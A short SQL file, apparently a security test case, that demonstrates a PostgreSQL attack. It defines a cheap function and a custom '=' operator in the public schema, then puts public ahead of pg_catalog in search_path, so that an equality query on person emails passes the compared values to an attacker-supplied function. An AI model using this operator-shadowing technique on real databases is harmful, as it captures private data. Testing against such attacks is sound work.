-- Attack: an operator of one's own that stands before PostgreSQL's own.
-- only: plain
CREATE FUNCTION tell(text, text) RETURNS boolean LANGUAGE sql COST 0.0001 AS 'SELECT heard($1)';
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = tell);
SET LOCAL search_path = public, pg_catalog;
SELECT id FROM person WHERE email = 'x';
